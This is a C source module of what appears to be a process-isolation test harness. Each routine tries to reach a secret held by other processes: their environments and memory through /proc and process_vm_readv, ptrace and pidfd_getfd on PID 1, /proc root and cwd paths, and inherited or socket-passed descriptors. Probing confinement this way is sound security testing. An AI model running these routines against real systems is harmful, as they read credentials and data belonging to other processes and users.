/* Ways to a value through processes: environments, memory, descriptors and the
 * doors that /proc opens to them. Catalogue rows E and F.
 *
 * Never: a change to another process; what only needs a change stands in power.c.
 */
#include "thief.h"
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/kcmp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

extern char **environ;

enum { IDS = 4096, DESCRIPTORS = 1024 };

static int ids[IDS];
static size_t id_count;

static void read_of(int id, const char *file) {
    char path[NAME];
    snprintf(path, sizeof path, "/proc/%d/%s", id, file);
    read_path(path);
}

static void of_all(const char *file) {
    id_count = process_ids(ids, IDS);
    for (size_t i = 0; i < id_count; i++)
        if (ids[i] != 1) read_of(ids[i], file);
}

static void own_environment(void) {
    for (char **entry = environ; *entry; entry++) look("own environment", *entry, strlen(*entry));
    read_path("/proc/self/environ");
    read_path("/proc/self/cmdline");
}

static void environment_of_pid_1(void) {
    read_path("/proc/1/environ");
    read_path("/proc/1/task/1/environ");
}

static void environment_of_others(void) { of_all("environ"); }

static void arguments(void) {
    read_path("/proc/1/cmdline");
    of_all("cmdline");
    of_all("comm");
}

/* Every readable mapping through `mem`, or through process_vm_readv. */
static void scan_memory(int id, int by_call) {
    static char piece[1 << 16];
    char path[NAME], line[512];
    snprintf(path, sizeof path, "/proc/%d/maps", id);
    int maps = (int)step(path, open(path, O_RDONLY | O_CLOEXEC));
    snprintf(path, sizeof path, "/proc/%d/mem", id);
    int memory = by_call ? -1 : (int)step(path, open(path, O_RDONLY | O_CLOEXEC));
    if (maps < 0 || (memory < 0 && !by_call)) return;
    FILE *lines = fdopen(maps, "r");
    while (fgets(line, sizeof line, lines)) {
        unsigned long start, end;
        char rights;
        if (sscanf(line, "%lx-%lx %c", &start, &end, &rights) != 3 || rights != 'r') continue;
        if (strstr(line, "[vvar") || strstr(line, "[vsyscall") || end - start > 1UL << 28) continue;
        for (unsigned long at = start; at < end; at += sizeof piece - 64) {
            size_t size = end - at < sizeof piece ? end - at : sizeof piece;
            struct iovec here = {piece, size}, there = {(void *)at, size};
            ssize_t got = by_call ? process_vm_readv(id, &here, 1, &there, 1, 0)
                                  : pread(memory, piece, size, (off_t)at);
            if (got > 0) look(by_call ? "process_vm_readv" : path, piece, (size_t)got);
        }
    }
    fclose(lines);
    if (memory >= 0) close(memory);
}

static void own_memory(void) { scan_memory(getpid(), 0); }
static void memory_of_pid_1(void) { scan_memory(1, 0); }

static void memory_of_others(void) {
    id_count = process_ids(ids, IDS);
    for (size_t i = 0; i < id_count; i++)
        if (ids[i] != 1) scan_memory(ids[i], 0);
}

/* Without maps: where a static program has its parts as a rule. */
static void memory_by_call(void) {
    static char piece[4096];
    unsigned long guesses[] = {0x400000, 0x10000, 0x7ffffffde000};
    for (size_t i = 0; i < 3; i++) {
        struct iovec here = {piece, sizeof piece}, there = {(void *)guesses[i], sizeof piece};
        ssize_t got = process_vm_readv(1, &here, 1, &there, 1, 0);
        /* EFAULT comes after the permission: it says that we may. */
        if (got >= 0 || errno == EFAULT) took("process_vm_readv of PID 1");
        step("process_vm_readv of PID 1", -1);
    }
}

static void trace_with(long request, const char *name) {
    if (step(name, ptrace(request, 1, NULL, NULL)) != 0) return;
    ptrace(PTRACE_DETACH, 1, NULL, NULL);
    took("%s of PID 1", name);
}

static void seize(void) { trace_with(PTRACE_SEIZE, "PTRACE_SEIZE"); }

static void seize_others(void) {
    int parent = getppid();
    id_count = process_ids(ids, IDS);
    for (size_t i = 0; i < id_count; i++) {
        if (ids[i] == 1 || ids[i] == parent) continue;
        if (step("PTRACE_SEIZE", ptrace(PTRACE_SEIZE, ids[i], NULL, NULL)) == 0)
            took("PTRACE_SEIZE of a process outside");
    }
}

static void get_descriptor(void) {
    int process = (int)step("pidfd_open", syscall(SYS_pidfd_open, 1, 0));
    if (process < 0) return;
    for (int number = 0; number < 32; number++) {
        int stolen = (int)syscall(SYS_pidfd_getfd, process, number, 0);
        if (stolen < 0 && errno == EBADF) took("pidfd_getfd may look into PID 1");
        if (step("pidfd_getfd", stolen) >= 0) took("descriptor %d of PID 1", number);
    }
}

static void compare_kernel_objects(void) {
    if (step("kcmp", syscall(SYS_kcmp, 1, getpid(), KCMP_VM, 0, 0)) >= 0) took("kcmp of PID 1");
}

static void advise_memory(void) {
    int process = (int)step("pidfd_open", syscall(SYS_pidfd_open, 1, 0));
    struct iovec there = {(void *)0x400000, 4096};
    long answer = syscall(SYS_process_madvise, process, &there, 1, MADV_COLD, 0);
    if (answer >= 0 || errno == ENOMEM) took("process_madvise of PID 1");
    step("process_madvise", -1);
}

/* What else of PID 1 the kernel shows only to whom may trace it. */
static void look_into_pid_1(void) {
    const char *files[] = {"maps", "smaps", "numa_maps", "auxv", "pagemap", "ns/mnt", "timers"};
    for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
        char path[NAME], target[NAME];
        snprintf(path, sizeof path, "/proc/1/%s", files[i]);
        if (strcmp(files[i], "ns/mnt") == 0) {
            if (step(path, readlink(path, target, sizeof target)) > 0) took("%s", path);
            continue;
        }
        int file = (int)step(path, open(path, O_RDONLY | O_CLOEXEC));
        if (file >= 0 && strcmp(files[i], "timers") != 0) {
            char byte;
            if (read(file, &byte, 1) > 0) took("%s", path);
        }
    }
    /* The directory opens for its owner; what it lists is judged. */
    DIR *maps = opendir("/proc/1/map_files");
    for (struct dirent *entry; maps && (entry = readdir(maps));)
        if (*entry->d_name != '.') took("/proc/1/map_files");
}

/* The secrets through the root and the directory of another process. */
static int door_of;

static void through_door(const char *path) {
    char door[2 * NAME], directory[NAME];
    const char *name = split(path, directory);
    snprintf(door, sizeof door, "/proc/%d/root%s", door_of, path);
    read_path(door);
    snprintf(door, sizeof door, "/proc/%d/task/%d/root%s", door_of, door_of, path);
    read_path(door);
    snprintf(door, sizeof door, "/proc/%d/cwd/%s", door_of, name);
    read_path(door);
    snprintf(door, sizeof door, "/proc/%d/cwd%s", door_of, path);
    read_path(door);
}

static void doors_of_pid_1(void) {
    door_of = 1;
    for_places("pa", through_door);
}

static void doors_of_others(void) {
    id_count = process_ids(ids, IDS);
    for (size_t i = 0; i < id_count; i++) {
        door_of = ids[i];
        if (door_of != 1) for_places("pa", through_door);
    }
}

static void own_doors(void) {
    door_of = getpid();
    for_places("pa", through_door);
}

/* Whatever an inherited descriptor gives: bytes, a mapping, a passed descriptor. */
static void inherited(void) {
    for (int number = 3; number < DESCRIPTORS; number++) {
        char where[64], again[64];
        struct stat found;
        if (fstat(number, &found) != 0) continue;
        snprintf(where, sizeof where, "inherited descriptor %d", number);
        int flags = fcntl(number, F_GETFL);
        if (flags >= 0) fcntl(number, F_SETFL, flags | O_NONBLOCK);
        read_descriptor(where, number);
        if (S_ISREG(found.st_mode) && found.st_size > 0) {
            void *mapped = mmap(NULL, (size_t)found.st_size, PROT_READ, MAP_SHARED, number, 0);
            if (mapped != MAP_FAILED) look(where, mapped, (size_t)found.st_size);
            int ends[2];
            char piece[4096];
            if (pipe2(ends, O_NONBLOCK) == 0) {
                off_t start = 0;
                splice(number, &start, ends[1], NULL, sizeof piece, SPLICE_F_NONBLOCK);
                ssize_t got = read(ends[0], piece, sizeof piece);
                if (got > 0) look(where, piece, (size_t)got);
            }
        }
        snprintf(again, sizeof again, "/proc/self/fd/%d", number);
        read_path(again);
    }
}

static int inherited_directory;

static void below_inherited(const char *path) {
    char directory[NAME], where[64];
    const char *name = split(path, directory);
    snprintf(where, sizeof where, "below inherited descriptor %d", inherited_directory);
    int file = (int)step(where, openat(inherited_directory, name, O_RDONLY | O_CLOEXEC));
    if (file >= 0) read_descriptor(where, file);
    file = (int)step(where, openat(inherited_directory, path + 1, O_RDONLY | O_CLOEXEC));
    if (file >= 0) read_descriptor(where, file);
}

static void inherited_directories(void) {
    struct stat found;
    for (inherited_directory = 3; inherited_directory < DESCRIPTORS; inherited_directory++)
        if (fstat(inherited_directory, &found) == 0 && S_ISDIR(found.st_mode))
            for_places("pa", below_inherited);
}

static void queued_descriptors(void) {
    for (int number = 3; number < DESCRIPTORS; number++) {
        char byte, control[256];
        struct iovec bytes = {&byte, 1};
        struct msghdr message = {.msg_iov = &bytes, .msg_iovlen = 1, .msg_control = control,
                                 .msg_controllen = sizeof control};
        if (recvmsg(number, &message, MSG_DONTWAIT) < 0) continue;
        struct cmsghdr *header = CMSG_FIRSTHDR(&message);
        if (header && header->cmsg_type == SCM_RIGHTS) {
            int passed;
            memcpy(&passed, CMSG_DATA(header), sizeof passed);
            read_descriptor("a descriptor in a socket's queue", passed);
        }
    }
}

static void descriptors_of(int id, const char *kind) {
    char path[NAME], entry_path[2 * NAME];
    snprintf(path, sizeof path, "/proc/%d/%s", id, kind);
    DIR *all = opendir(path);
    if (step(path, all ? 0 : -1) != 0) {
        /* The list is refused; the numbers can be guessed. */
        for (int number = 0; number < 32; number++) {
            snprintf(entry_path, sizeof entry_path, "%s/%d", path, number);
            read_path(entry_path);
        }
        return;
    }
    for (struct dirent *entry; (entry = readdir(all));) {
        struct stat found;
        snprintf(entry_path, sizeof entry_path, "%s/%s", path, entry->d_name);
        /* Pipes belong to the log: F5 reads those. */
        if (stat(entry_path, &found) == 0 && (S_ISREG(found.st_mode) || S_ISDIR(found.st_mode)))
            read_path(entry_path);
    }
    closedir(all);
}

static void descriptors_of_pid_1(void) {
    descriptors_of(1, "fd");
    descriptors_of(1, "map_files");
    descriptors_of(1, "fdinfo");
}

static void descriptors_of_others(void) {
    id_count = process_ids(ids, IDS);
    for (size_t i = 0; i < id_count; i++)
        if (ids[i] != 1) descriptors_of(ids[i], "fd");
}

const struct attack process_attacks[] = {
    {"E1", "own environment and arguments", own_environment},
    {"E1", "own memory, what exec left in it", own_memory},
    {"E2", "environment of PID 1", environment_of_pid_1},
    {"E3", "environment of every other process", environment_of_others},
    {"E4", "memory of PID 1", memory_of_pid_1},
    {"E4", "memory of every other process", memory_of_others},
    {"E5", "process_vm_readv of PID 1", memory_by_call},
    {"E5", "ptrace of PID 1", seize},
    {"E5", "ptrace of every other process", seize_others},
    {"E5", "pidfd_getfd from PID 1", get_descriptor},
    {"E5", "kcmp with PID 1", compare_kernel_objects},
    {"E5", "process_madvise of PID 1", advise_memory},
    {"E6", "maps, auxv and namespaces of PID 1", look_into_pid_1},
    {"E8", "arguments of every process", arguments},
    {"E9", "root and directory of PID 1", doors_of_pid_1},
    {"E9", "root and directory of every other process", doors_of_others},
    {"S1", "own root and directory", own_doors},
    {"F1", "inherited descriptors", inherited},
    {"F2", "descriptors of PID 1, opened again", descriptors_of_pid_1},
    {"F2", "descriptors of every other process", descriptors_of_others},
    {"F4", "descriptors in the queue of a socket", queued_descriptors},
    {"F7", "inherited directories", inherited_directories},
    {NULL, NULL, NULL},
};
